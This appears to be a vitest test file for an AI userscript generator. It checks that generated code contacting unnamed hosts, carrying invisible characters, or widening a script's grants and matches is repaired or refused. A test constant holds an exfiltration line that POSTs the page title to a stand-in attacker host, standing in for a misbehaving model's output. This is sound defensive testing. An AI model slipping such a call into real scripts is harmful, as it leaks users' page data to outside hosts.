import { effectKind } from "@scriptorium/shared-protocol/page-effects";
import { parseMetadata } from "@scriptorium/userscript/parse-metadata";
import { describe, expect, test } from "vitest";
import type { ModelQuestion } from "../model/ask-model.ts";
import { generate } from "./generate.ts";
import { CODE_INSTRUCTIONS, PLAN_INSTRUCTIONS } from "./instructions.ts";
import type { ScriptRequest } from "./script-request.ts";

const PLAN = {
	title: "Prices",
	description: "Shows the prices of the shop.",
	category: "other",
	tags: [],
	summary: "Shows prices.",
	steps: [],
	grants: [],
	hosts: ["evil.example.com"],
	elements: [],
	unseen: null,
	effects: ["content"],
};

/** A model that answers with one piece of code after the other. */
async function run(request: ScriptRequest, codes: readonly string[], plan: object = PLAN) {
	const questions: ModelQuestion[] = [];
	const made = await generate({
		request,
		model: "test",
		preferredLanguage: "javascript",
		ask: async (question) => {
			const isPlanning = question.instructions === PLAN_INSTRUCTIONS;
			if (!isPlanning) questions.push(question);
			const code = codes[questions.length - 1] ?? "";
			return { ok: true, tokens: 1, text: isPlanning ? JSON.stringify(plan) : `\`\`\`js\n${code}\n\`\`\`` };
		},
		signal: new AbortController().signal,
		onEvent: () => undefined,
		onTokens: () => undefined,
	});
	return { made, questions };
}
const SHOP: ScriptRequest = { prompt: "Show the prices on shop.example.org", isUserscript: true };
const EVIL = "fetch('https://evil.example.com/', { method: 'POST', body: document.title });";

describe("code that contacts a host which nobody named", () => {
	test("is repaired once, and the model is told which host", async () => {
		const { made, questions } = await run(SHOP, [EVIL, "document.title = 'a';"]);
		expect(made.ok).toBe(true);
		expect(questions).toHaveLength(2);
		expect(questions[1]?.prompt).toContain("It contacts evil.example.com by fetch");
	});

	test("is refused after that, and the person is told which host and what to do", async () => {
		const { made, questions } = await run(SHOP, [EVIL, EVIL]);
		expect(questions).toHaveLength(2);
		if (made.ok) throw new Error("It was accepted.");
		expect(made.error.code).toBe("exceeds_plan");
		expect(made.error.message).toMatch(/contacts evil\.example\.com.*name it in your description, then plan again/);
	});

	test("is refused with another sentence when no host is known", async () => {
		const unknown = "fetch(document.querySelector('p').textContent, { method: 'POST', body: document.title });";
		const { made } = await run(SHOP, [unknown, unknown]);
		if (made.ok) throw new Error("It was accepted.");
		expect(made.error.code).toBe("exceeds_plan");
		expect(made.error.message).toContain("Name its sites in your description");
	});

	test("is written once the person names the host", async () => {
		const { made } = await run({ ...SHOP, prompt: "Send the title to evil.example.com" }, [EVIL]);
		expect(made).toMatchObject({ ok: true, value: { result: { plan: { hosts: ["evil.example.com"] } } } });
	});
});

test("code with characters that people do not see is repaired", async () => {
	const { made, questions } = await run(SHOP, ["document.title = 'a\u202eb';", "document.title = 'a';"]);
	expect(made.ok).toBe(true);
	expect(questions[1]?.prompt).toContain("invisible characters");
});

const BEFORE = `// ==UserScript==
// @name         Prices of the shop
// @namespace    https://example.org/users/1
// @version      3.2
// @author       Ann
// @match        https://shop.example.org/*
// @exclude      https://shop.example.org/pay*
// @connect      prices.example.net
// @grant        GM_xmlhttpRequest
// @run-at       document-end
// ==/UserScript==

GM_xmlhttpRequest({ url: 'https://prices.example.net/list', onload: ({ responseText }) => console.log(responseText) });
`;

describe("a script that is changed", () => {
	const request: ScriptRequest = {
		prompt: "Ask for the prices only once a day",
		isUserscript: true,
		isModification: true,
		existingCode: BEFORE,
	};
	const code = "GM_xmlhttpRequest({ url: 'https://prices.example.net/list?once', onload: () => console.log('a') });";

	test("keeps its block, its grants and the host that it contacts, in one stage and in two", async () => {
		const block = BEFORE.slice(0, BEFORE.indexOf("==/UserScript=="));
		const { made } = await run(request, [code]);
		if (!made.ok) throw new Error(made.error.details ?? made.error.message);
		expect(made.value.result.code.startsWith(block)).toBe(true);
		const planned = await run({ ...request, stage: "plan" }, []);
		if (!planned.made.ok || !planned.made.value.result.plan) throw new Error("There is no plan.");
		const { plan } = planned.made.value.result;
		expect(plan).toMatchObject({
			matches: ["https://shop.example.org/*"],
			grants: ["GM_xmlhttpRequest"],
			hosts: ["prices.example.net"],
		});
		const written = await run({ ...request, stage: "code", plan }, [code]);
		expect(written.made).toMatchObject({ ok: true, value: { result: { code: made.value.result.code } } });
	});

	test("gets no other host, grant or site by a model that wants them", async () => {
		const greedy = { ...PLAN, grants: ["GM_cookie", "GM_setValue"] };
		const { made } = await run(request, [code], greedy);
		if (!made.ok) throw new Error(made.error.message);
		const read = parseMetadata(made.value.result.code);
		expect(read.ok && read.metadata).toMatchObject({
			matches: ["https://shop.example.org/*"],
			grants: ["GM_xmlhttpRequest", "GM_setValue"],
			connects: ["prices.example.net"],
		});
		expect((await run(request, [EVIL, EVIL])).made).toMatchObject({ ok: false, error: { code: "exceeds_plan" } });
	});

	test("refuses an approved plan that gives it more than it had", async () => {
		const planned = await run({ ...request, stage: "plan" }, []);
		if (!planned.made.ok || !planned.made.value.result.plan) throw new Error("There is no plan.");
		const { plan } = planned.made.value.result;
		for (const more of [{ hosts: ["evil.example.com"] }, { grants: ["GM_cookie"] }, { matches: ["*://*/*"] }]) {
			const changed = await run({ ...request, stage: "code", plan: { ...plan, ...more } }, [code]);
			expect(changed.made).toMatchObject({ ok: false, error: { code: "exceeds_plan" } });
		}
	});
});

describe("the effects of a plan", () => {
	const CODE = ["document.body.append('a');"];
	const answers = (...plans: readonly object[]) => {
		const prompts: string[] = [];
		const made = generate({
			request: SHOP,
			model: "test",
			preferredLanguage: "javascript",
			ask: async ({ instructions, prompt }) => {
				if (instructions !== PLAN_INSTRUCTIONS) return { ok: true, tokens: 1, text: `\`\`\`js\n${CODE[0]}\n\`\`\`` };
				prompts.push(prompt);
				return { ok: true, tokens: 1, text: JSON.stringify(plans[prompts.length - 1]) };
			},
			signal: new AbortController().signal,
			onEvent: () => undefined,
			onTokens: () => undefined,
		});
		return { made, prompts };
	};
	const { effects: _, ...withoutEffects } = PLAN;

	test.each([
		["are missing", withoutEffects],
		["are unknown", { ...PLAN, effects: ["magic"] }],
	])("are asked for again when they %s", async (_name, first) => {
		const { made, prompts } = answers(first, { ...PLAN, effects: ["content", "content", "requests"] });
		expect(await made).toMatchObject({ ok: true, value: { result: { plan: { effects: ["content", "requests"] } } } });
		expect(prompts).toHaveLength(2);
		expect(prompts[1]).toContain("at effects");
	});

	test("make the answer unusable when they are missing twice", async () => {
		const { made } = answers(withoutEffects, withoutEffects);
		expect(await made).toMatchObject({ ok: false, error: { code: "model_answer_invalid" } });
	});

	test("are told to the model with their meaning", () => {
		expect(CODE_INSTRUCTIONS).toMatch(
			/always JavaScript: when `preferred_language` is "typescript", .* JSDoc comments/,
		);
		for (const kind of effectKind.options) expect(PLAN_INSTRUCTIONS).toContain(`"${kind}" `);
	});
});
